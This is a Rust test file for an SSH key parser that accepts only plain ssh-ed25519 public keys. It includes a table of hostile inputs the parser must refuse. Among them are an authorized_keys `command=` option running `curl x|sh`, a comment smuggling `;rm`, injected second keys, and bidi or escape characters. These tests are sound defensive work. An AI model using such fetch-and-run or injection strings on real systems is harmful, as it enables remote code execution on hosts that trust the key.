use cm_core::ErrorKind;
use proptest::prelude::*;
use ssh_key::encoding::Encode;
use ssh_key::public::{Ed25519PublicKey, KeyData};

use super::*;

// Real keys, made once with `ssh-keygen -t <type> -N '' -C test@example`.
const ED25519_BODY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIF1I7b2+kSvL4X7gXOvYTJg7Ri08y7VZM6Co9jPJ/u3t";
const ED25519_FINGERPRINT: &str = "SHA256:jEsXqkM44CrAQXcqAJeWBtjbXfo2ORm7+Enu/7rbvx4";
const OTHER_ED25519_BODY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
const RSA_BODY: &str = "AAAAB3NzaC1yc2EAAAADAQABAAAAgQDLA1NIFACGYXKtuaxUeCLJovs7ZCd2Q92yZinD9otcLA0fpHNjj+OdGNhdWE2rfVg4yyjSzppCmDq3ZE8Jn0TuX12LXJqaZSbOm/pb0bWGZLN+EVCyjPSgNpTLd8kfDJornAtxcu+AM4QJN7Gl3x9N9vnH66Bdj43e3RqDA83b4Q==";
const ECDSA_BODY: &str = "AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBPcqXZOL3bWQxCwNj7tNMhATeB8WI/+kv64DS3U+cPpMxKUbzsUQ3zISKQ9JVY/KTP2N4sxAOEU+CyLIQeYIWT4=";
const DSA_BODY: &str = "AAAAB3NzaC1kc3MAAACBAPf2Kibl4fHHjGdmbV9FSPzbWoYnSfq+/+hPMTcpWqbwX7jn0ZdZaAc5/mhqKGGAXopR71bGcr4y8F4QMkpyU7eB2kE/RwZSKPp8FYZ0Rui39VUPs3mPbL/uJIy9XJxG7UfCptSfdu1uh7/drbBovrUwmY9ljrSF4YTEouR+ON/9AAAAFQD+JjygW+xSdFcYKkULnmcirLPg2QAAAIEApMXUb5hVDgUFdtE7DmQyR0KJsGRio7mROtNbDPHLhJS9h2JKEhoIbYtavXs761q5WdYiHZ1Ab9hJHTetQKq39AYFfo7+0qMUFWTc9LAmSv0MGB0PdAD3asuH6TjJwEk5tn3RcqHoGXY+OEglY7nE/ZriE8c7elEMoQ1a5BdMznQAAACAX0GekoDf7215q2/7fzgaV8Vz31Ok+t1iFbS/ZTMSFPg+fzd+kSfOBGxCGyElx1iAN0iPpSwOEAnMSNEeMfZHMXrq1TNZduCtdLpY32S5ZQ/wR9LXlsxVfNuRUpkYBboAsAhh/NWANY95mDLy6i0vsoabUZ4kYrDlcUxgUdBT18Y=";

fn valid() -> String {
    format!("ssh-ed25519 {ED25519_BODY} test@example")
}

/// A body made of SSH wire strings, to build blobs `ssh-keygen` will not produce.
fn blob(parts: &[&[u8]]) -> String {
    let mut bytes = Vec::new();
    for part in parts {
        part.encode(&mut bytes).unwrap();
    }
    Base64::encode_string(&bytes)
}

/// Parses `input` and checks that it is refused as invalid input with `reason` in the message.
fn check_refused(input: &str, reason: &str) {
    let err = Ed25519KeyParser.parse(input).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput, "{input:?}: {err:?}");
    let message = err.to_string();
    assert!(message.starts_with("invalid ssh key: "), "{message}");
    assert!(
        message.contains(reason),
        "{input:?} gave {message:?}, wanted {reason:?}"
    );
    assert!(!message.contains(['\n', '\r']), "{message:?}");
    assert!(!message.ends_with('.'), "{message:?}");
}

#[test]
fn accepts_a_plain_ed25519_key() {
    let key = Ed25519KeyParser.parse(&valid()).unwrap();
    assert_eq!(key.line(), valid());
    assert_eq!(key.fingerprint(), ED25519_FINGERPRINT);
    assert_eq!(key.comment(), "test@example");
    assert_eq!(key.algorithm(), "ssh-ed25519");
}

#[test]
fn canonicalises_whitespace_and_keeps_an_empty_comment() {
    for input in [
        format!("{}\n", valid()),
        format!("  {}  \r\n", valid()),
        format!("\u{feff}{}", valid()),
        format!("ssh-ed25519   {ED25519_BODY}    test@example   "),
    ] {
        assert_eq!(
            Ed25519KeyParser.parse(&input).unwrap().line(),
            valid(),
            "{input:?}"
        );
    }
    let bare = Ed25519KeyParser
        .parse(&format!("ssh-ed25519 {ED25519_BODY}\n"))
        .unwrap();
    assert_eq!(bare.line(), format!("ssh-ed25519 {ED25519_BODY}"));
    assert_eq!(bare.comment(), "");
    assert_eq!(bare.fingerprint(), ED25519_FINGERPRINT);
}

#[test]
fn refuses_hostile_and_wrong_keys_saying_why() {
    let v = valid();
    let sk_body = blob(&[b"sk-ssh-ed25519@openssh.com", &[7; 32], b"ssh:"]);
    let cases: Vec<(&str, String, &str)> = vec![
        ("empty", String::new(), "the key is empty"),
        ("only whitespace", " \n\t\n ".into(), "the key is empty"),
        (
            "oversized",
            format!("ssh-ed25519 {ED25519_BODY} {}", "a".repeat(RAW_KEY_MAX)),
            "at most 8192",
        ),
        (
            "second key after a newline",
            format!("{v}\nssh-ed25519 {OTHER_ED25519_BODY} evil"),
            "more than one line",
        ),
        (
            "second key after a carriage return",
            format!("{v}\rssh-ed25519 {OTHER_ED25519_BODY}"),
            "more than one line",
        ),
        (
            "unicode line separator",
            format!("{v}\u{2028}ssh-ed25519 {OTHER_ED25519_BODY}"),
            "more than one line",
        ),
        (
            "second key on the same line",
            format!("{v} ssh-ed25519 {OTHER_ED25519_BODY} evil"),
            "more than one key",
        ),
        (
            "command option",
            format!("command=\"/bin/sh -c 'curl x|sh'\" {v}"),
            "options are not allowed (found `command`)",
        ),
        (
            "flag options",
            format!("no-pty,no-port-forwarding {v}"),
            "options are not allowed (found `no-pty`)",
        ),
        (
            "single flag option",
            format!("restrict {v}"),
            "options are not allowed (found `restrict`)",
        ),
        (
            "from option",
            format!("from=\"10.0.0.1\" {v}"),
            "options are not allowed (found `from`)",
        ),
        (
            "unknown option",
            format!("frobnicate {v}"),
            "options are not allowed (found `frobnicate`)",
        ),
        (
            "known_hosts marker",
            format!("@cert-authority * {v}"),
            "options are not allowed",
        ),
        (
            "text says ed25519, blob is rsa",
            format!("ssh-ed25519 {RSA_BODY}"),
            "the line says ssh-ed25519 but the key data is `ssh-rsa`",
        ),
        (
            "text says rsa, blob is ed25519",
            format!("ssh-rsa {ED25519_BODY}"),
            "`ssh-rsa` keys are not accepted",
        ),
        (
            "bad base64",
            "ssh-ed25519 AAAA!!!notbase64 x".into(),
            "not valid base64",
        ),
        (
            "base64 with a wrong length",
            format!("ssh-ed25519 {}", &ED25519_BODY[..ED25519_BODY.len() - 1]),
            "not valid base64",
        ),
        (
            "truncated blob",
            format!("ssh-ed25519 {}", blob(&[b"ssh-ed25519", &[1; 16]])),
            "key data is malformed",
        ),
        (
            "trailing bytes in the blob",
            format!("ssh-ed25519 {}", blob(&[b"ssh-ed25519", &[1; 32], b"x"])),
            "key data is malformed",
        ),
        (
            "blob without an algorithm",
            "ssh-ed25519 AAAA".into(),
            "does not start with an algorithm name",
        ),
        (
            "missing body",
            "ssh-ed25519".into(),
            "key data after ssh-ed25519 is missing",
        ),
        (
            "rsa",
            format!("ssh-rsa {RSA_BODY} test@example"),
            "`ssh-rsa` keys are not accepted, only ssh-ed25519 keys",
        ),
        (
            "ecdsa",
            format!("ecdsa-sha2-nistp256 {ECDSA_BODY} test@example"),
            "`ecdsa-sha2-nistp256` keys are not accepted",
        ),
        (
            "dsa",
            format!("ssh-dss {DSA_BODY} test@example"),
            "`ssh-dss` keys are not accepted",
        ),
        (
            "security key",
            format!("sk-ssh-ed25519@openssh.com {sk_body}"),
            "security key (`sk-ssh-ed25519@openssh.com`) keys are not accepted",
        ),
        (
            "certificate",
            format!("ssh-ed25519-cert-v01@openssh.com {ED25519_BODY}"),
            "ssh certificates",
        ),
        (
            "unknown type",
            format!("ssh-foo {ED25519_BODY}"),
            "`ssh-foo` keys are not accepted",
        ),
        ("not a key at all", "hello".into(), "unknown key type `hello`"),
        ("comment line", format!("# {v}"), "the line is a comment"),
        (
            "private key",
            "-----BEGIN OPENSSH PRIVATE KEY-----".into(),
            "this is a private key",
        ),
        (
            "rfc 4716",
            format!("---- BEGIN SSH2 PUBLIC KEY ----\n{ED25519_BODY}\n---- END SSH2 PUBLIC KEY ----"),
            "rfc 4716",
        ),
        (
            "tab",
            format!("ssh-ed25519\t{ED25519_BODY}"),
            "control character (a tab, U+0009)",
        ),
        ("nul", format!("{v}\0"), "control character (U+0000)"),
        (
            "escape sequence",
            format!("ssh-ed25519 {ED25519_BODY} \u{1b}[2Jhi"),
            "control character (U+001B)",
        ),
        ("next line", format!("{v}\u{85}x"), "control character (U+0085)"),
        (
            "comment with a space",
            format!("{v} and more"),
            "comment may only contain letters, digits and . _ - @ + : (found a space)",
        ),
        ("comment with a quote", format!("{v}\"x"), "(found `\"`)"),
        (
            "comment with a shell character",
            format!("ssh-ed25519 {ED25519_BODY} a;rm"),
            "(found `;`)",
        ),
        (
            "comment with non-ascii",
            format!("ssh-ed25519 {ED25519_BODY} b\u{fc}cher"),
            "(found U+00FC)",
        ),
        (
            "comment with a bidi override",
            format!("ssh-ed25519 {ED25519_BODY} a\u{202e}b"),
            "(found U+202E)",
        ),
        (
            "comment too long",
            format!("ssh-ed25519 {ED25519_BODY} {}", "a".repeat(101)),
            "comment is 101 bytes long, at most 100",
        ),
    ];
    for (name, input, reason) in cases {
        eprintln!("case: {name}");
        check_refused(&input, reason);
    }
}

#[test]
fn messages_never_echo_unprintable_input() {
    let err = Ed25519KeyParser
        .parse(&format!("\u{202e}ssh-ed25519 {ED25519_BODY}"))
        .unwrap_err();
    assert!(!err.to_string().contains('\u{202e}'), "{err}");
    assert!(
        err.to_string().contains("unknown key type something else"),
        "{err}"
    );
}

#[test]
fn the_longest_comment_is_accepted() {
    let comment = "c".repeat(COMMENT_MAX);
    let key = Ed25519KeyParser
        .parse(&format!("ssh-ed25519 {ED25519_BODY} {comment}"))
        .unwrap();
    assert_eq!(key.comment(), comment);
}

fn ed25519_line(bytes: [u8; 32], comment: &str) -> String {
    PublicKey::new(KeyData::Ed25519(Ed25519PublicKey(bytes)), comment)
        .to_openssh()
        .unwrap()
}

proptest! {
    #[test]
    fn parsing_any_text_never_panics(raw in any::<String>()) {
        let _ = Ed25519KeyParser.parse(&raw);
    }

    #[test]
    fn parsing_key_like_fragments_never_panics_and_is_canonical(
        pieces in prop::collection::vec(
            prop::sample::select(vec![
                "ssh-ed25519", "ssh-rsa", " ", "  ", "\t", "\n", "\r", "\0", ED25519_BODY,
                RSA_BODY, "AAAA", "=", "==", "command=\"x\"", "no-pty,", "#", "\u{feff}", "a@b",
                "\u{202e}", "ü", "sk-ssh-ed25519@openssh.com", "-cert-v01@openssh.com",
            ]),
            0..8,
        ),
    ) {
        let raw = pieces.concat();
        if let Ok(key) = Ed25519KeyParser.parse(&raw) {
            prop_assert_eq!(Ed25519KeyParser.parse(key.line()).unwrap(), key.clone());
            prop_assert!(key.line().starts_with("ssh-ed25519 AAAA"));
        }
    }

    #[test]
    fn parsing_a_canonical_key_gives_it_back(
        bytes in any::<[u8; 32]>(),
        comment in "[A-Za-z0-9._@+:-]{0,100}",
    ) {
        let line = ed25519_line(bytes, &comment);
        let key = Ed25519KeyParser.parse(&line).unwrap();
        prop_assert_eq!(key.line(), line.as_str());
        prop_assert_eq!(key.comment(), comment.as_str());
        prop_assert_eq!(Ed25519KeyParser.parse(&format!(" {line}\n")).unwrap(), key.clone());
        prop_assert_eq!(Ed25519KeyParser.parse(key.line()).unwrap(), key);
    }

    #[test]
    fn a_damaged_key_never_panics_and_any_accepted_result_is_canonical(
        bytes in any::<[u8; 32]>(),
        at in any::<prop::sample::Index>(),
        insert in any::<char>(),
    ) {
        let mut line = ed25519_line(bytes, "user@host");
        let mut boundaries: Vec<usize> = line.char_indices().map(|(i, _)| i).collect();
        boundaries.push(line.len());
        line.insert(*at.get(&boundaries), insert);
        if let Ok(key) = Ed25519KeyParser.parse(&line) {
            prop_assert_eq!(Ed25519KeyParser.parse(key.line()).unwrap(), key.clone());
            prop_assert!(!key.line().contains(['\n', '\r']));
        }
    }
}
